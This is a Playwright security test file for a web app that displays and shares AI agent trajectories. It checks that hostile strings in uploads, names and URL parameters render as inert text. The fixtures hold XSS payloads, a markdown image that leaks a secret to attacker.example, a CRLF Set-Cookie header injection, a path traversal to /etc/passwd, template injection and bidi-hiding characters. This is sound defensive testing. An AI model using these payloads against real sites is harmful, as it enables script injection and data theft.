import type { Page } from "@playwright/test";
import { shareCreatedSchema } from "@/lib/views/share";
import { uploadAnswerSchema } from "@/lib/views/trajectory-list";
import { hostileSession } from "./forensics/hostile-session";
import { hostileRun, traceOf } from "./forensics/runs";
import { uploadThroughPage, waitForImport } from "./harness/upload";
import { expect, test } from "./harness/watched-page";
import { checkHarmless, checkStays, findHidden, visitAll } from "./security/harmless";

const NAME = '<img src=x onerror="window.__pwned=1">.traj';

test("X1, X4, X5, X7: hostile strings in every field stay words, on every view and on the shared page", async ({
  page,
  stranger,
}) => {
  test.setTimeout(180_000);
  const row = await uploadThroughPage(page, { name: NAME, content: hostileRun(`hostile ${Date.now()}`) });
  expect(row.status).toBe("ready");
  const turns = row.turnCount ?? 0;
  expect(turns).toBe(4);
  await checkHarmless(page, "the list");

  const base = `/t/${row.id}`;
  await visitAll(page, base, ["code", "files", "raw"], turns);
  await page.goto(`${base}?turn=1`);
  await expect(page.getByText('<img src=x onerror="window.__pwned=1">').first()).toBeVisible();
  await expect(
    page.getByText("![leak](https://attacker.example/leak?q=secret)", { exact: false }).first(),
  ).toBeVisible();
  for (const context of [0, 1]) {
    await page.goto(`${base}?turn=1&context=${context}`);
    await expect(page.getByRole("heading", { level: 2 }).first()).toBeVisible();
    await checkHarmless(page, `context ${context}`);
  }
  await page.goto(`${base}?turn=2`);
  await page.getByRole("button", { name: /import notes?$|not understood$/ }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await checkHarmless(page, "notes");
  await page.keyboard.press("Escape");

  await page.getByRole("button", { name: "Share", exact: true }).click();
  const dialog = page.getByRole("dialog", { name: "Share" });
  await dialog.getByRole("button", { name: "Create link" }).click();
  const link = new URL(await dialog.getByLabel("The new link").inputValue());
  await visitAll(stranger, link.pathname, ["code", "files"], turns);
});

test("X2: two seconds after it was opened a page of a hostile run stands where it stood", async ({
  page,
  stranger,
}) => {
  test.setTimeout(120_000);
  const row = await uploadThroughPage(page, { name: NAME, content: hostileRun(`stays ${Date.now()}`) });
  const base = `/t/${row.id}`;
  for (const more of ["turn=1", "turn=2&view=code", "turn=3&view=files", "turn=4&view=raw", "turn=1&context=1"]) {
    await checkStays(page, `${base}?${more}`);
  }
  await checkStays(page, "/");
  const shared = await shareOf(page, row.id);
  for (const more of ["turn=1", "turn=2&view=code", "turn=3&view=files"])
    await checkStays(stranger, `${shared}?${more}`);
});

test("X1: hostile values in the address stay words", async ({ page }) => {
  const row = await uploadThroughPage(page, { name: "plain.traj", content: hostileRun(`address ${Date.now()}`) });
  const hostile = encodeURIComponent('"><script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>');
  await page.goto(`/t/${row.id}?turn=${hostile}&file=${hostile}&item=${hostile}&view=${hostile}&list=${hostile}`);
  await expect(page.getByRole("heading", { level: 2 }).first()).toBeVisible();
  await checkHarmless(page, "address");
});

const NAMES = [
  `<img src=x onerror="window.__pwned=1">.jsonl`,
  'a"\r\nSet-Cookie: pwned=1.jsonl',
  "../../etc/passwd",
  `${"long name ".repeat(1_000)}.jsonl`,
  "\u202elnosj.exe\u202c right to left.jsonl",
  "{{7*7}} %0d%0a.jsonl",
];

test("X1, X2: identifiers, models, tools, arguments, titles and errors of a session stay words everywhere", async ({
  page,
  stranger,
}) => {
  test.setTimeout(240_000);
  const row = await uploadThroughPage(page, { name: NAMES[0] ?? "", content: hostileSession(`session ${Date.now()}`) });
  expect(row).toMatchObject({ status: "ready", format: { id: "claude-code" } });
  await checkHarmless(page, "the list");
  const base = `/t/${row.id}`;
  await visitAll(page, base, ["code", "files", "raw"], row.turnCount ?? 0);
  for (const context of [0, 1, 2]) {
    await page.goto(`${base}?turn=1&context=${context}`);
    await expect(page.getByRole("heading", { level: 2 }).first()).toBeVisible();
    await checkHarmless(page, `context ${context}`);
  }
  await page.goto(`${base}?turn=1`);
  await page.getByRole("button", { name: /import notes?$|not understood$/ }).click();
  await expect(page.getByRole("dialog")).toContainText("Lines that could not be read");
  await checkHarmless(page, "notes");
  await page.keyboard.press("Escape");
  await page.goto("/legend");
  await checkHarmless(page, "the legend");
  await page.goto(`/?q=${encodeURIComponent(NAMES[0] ?? "")}`);
  await expect(page.getByText(NAMES[0] ?? "").first()).toBeVisible();
  await checkHarmless(page, "the list, searched");

  const address = await shareOf(page, row.id);
  await visitAll(stranger, address, ["code", "files"], row.turnCount ?? 0);
  expect(new URL(stranger.url()).pathname).toBe(address);
});

test("X6: names of uploads are words, and end no header", async ({ page }) => {
  test.setTimeout(120_000);
  for (const [n, name] of NAMES.entries()) {
    await page.goto("/");
    const response = await page.request.post(`/api/v1/uploads?name=${encodeURIComponent(name)}`, {
      data: hostileSession(`name ${n} ${Date.now()}`),
      headers: { origin: new URL(page.url()).origin },
    });
    const row = await waitForImport(page.request, uploadAnswerSchema.parse(await response.json()).id);
    expect(row.name.length).toBeLessThanOrEqual(255);
    expect(row.name).not.toMatch(/\p{Cc}/u);
    await page.goto(`/t/${row.id}`);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await checkHarmless(page, name.slice(0, 40));
    const download = await page.request.get(`/api/v1/trajectories/${row.id}/upload`);
    const headers = download.headers();
    expect(headers["content-disposition"]).toMatch(
      /^attachment; filename="[A-Za-z0-9._ ()+-]{1,150}"; filename\*=UTF-8''(?:[A-Za-z0-9._~$&+^`|-]|%[0-9A-F]{2})+$/,
    );
    expect(headers["set-cookie"]).toBeUndefined();
    expect(headers["content-security-policy"]).toBe("sandbox; default-src 'none'");
  }
  expect((await page.context().cookies()).map((cookie) => cookie.name)).not.toContain("pwned");
});

test("X8: marks that turn or hide letters are seen in the turn, its title, the outline and the list", async ({
  page,
}) => {
  const turned = "turned \u202e\u2066\u200b\u{e0041} around";
  const step = { thought: turned, action: `cat '${turned}'`, observation: turned };
  const content = traceOf([step, step], { marker: `bidi ${Date.now()}`, task: turned });
  const row = await uploadThroughPage(page, { name: `${turned}.traj`, content });
  for (const address of [`/t/${row.id}?turn=1`, `/t/${row.id}?turn=1&view=raw`, `/t/${row.id}?turn=1&context=1`, "/"]) {
    await page.goto(address);
    await expect(page.getByRole("heading").first()).toBeVisible();
    expect(await findHidden(page), address).toEqual([]);
  }
});

test("X9: ten thousand brackets and quotation marks of prose leave the page usable", async ({ page }) => {
  const thought = `${"> ".repeat(10_000)}deep\n${"[".repeat(10_000)}\n${"*".repeat(10_000)}\n${"`".repeat(10_001)}\n${"[a](".repeat(10_000)}`;
  const step = { thought, action: "ls", observation: thought };
  const row = await uploadThroughPage(page, {
    name: "brackets.traj",
    content: traceOf([step, { ...step, thought: "The next one." }], {
      marker: `brackets ${Date.now()}`,
      task: thought,
    }),
  });
  await page.goto(`/t/${row.id}?turn=1`);
  await expect(page.getByRole("heading", { level: 2 }).first()).toBeVisible();
  const before = await taskSeconds(page);
  await page.keyboard.press("j");
  await expect(page).toHaveURL(/turn=2/);
  await expect(page.getByText("The next one.").first()).toBeVisible();
  await page.keyboard.press("k");
  await expect(page).toHaveURL(/turn=1/);
  expect((await taskSeconds(page)) - before).toBeLessThan(2);
});

test("X10: a line of 10 MB opens as text that is cut, and the editor asks nobody else", async ({ page }) => {
  test.setTimeout(120_000);
  const long = "x".repeat(10_000_000);
  const path = "/work/shop/data.min.js";
  const content = traceOf(
    [
      {
        thought: "One long line.",
        action: `str_replace_editor create ${path} --file_text 'start = "${long}"\n'`,
        observation: `File created successfully at: ${path}\n`,
      },
    ],
    { marker: `long line ${Date.now()}`, task: "A long line." },
  );
  // Not through the page: the browser would keep the whole file and forget the answer.
  await page.goto("/");
  const response = await page.request.post("/api/v1/uploads?name=long-line.traj", {
    data: content,
    headers: { origin: new URL(page.url()).origin },
  });
  const row = await waitForImport(page.request, uploadAnswerSchema.parse(await response.json()).id);
  expect(row.status).toBe("ready");
  await page.goto(`/t/${row.id}?turn=1&view=code`);
  const code = page.getByRole("region", { name: "Code" });
  await expect(code.getByText("start =", { exact: false }).first()).toBeVisible({ timeout: 30_000 });
  const shown = await page.evaluate(() => document.body.textContent.length);
  expect(shown).toBeLessThan(1_000_000);
  await page.keyboard.press("2");
  await expect(page).toHaveURL(/view=files/);
  await checkHarmless(page, "files");
});

/** Makes a link to a trajectory. Returns its path. */
async function shareOf(page: Page, id: string): Promise<string> {
  const headers = { origin: new URL(page.url()).origin };
  const made = await page.request.post(`/api/v1/trajectories/${id}/shares`, { data: {}, headers });
  return shareCreatedSchema.parse(await made.json()).path;
}

/** Seconds of processor time that the page's main thread has taken so far: what else runs on the machine does not count. */
async function taskSeconds(page: Page): Promise<number> {
  const session = await page.context().newCDPSession(page);
  await session.send("Performance.enable", { timeDomain: "threadTicks" });
  const { metrics } = await session.send("Performance.getMetrics");
  await session.detach();
  return metrics.find((metric) => metric.name === "TaskDuration")?.value ?? 0;
}
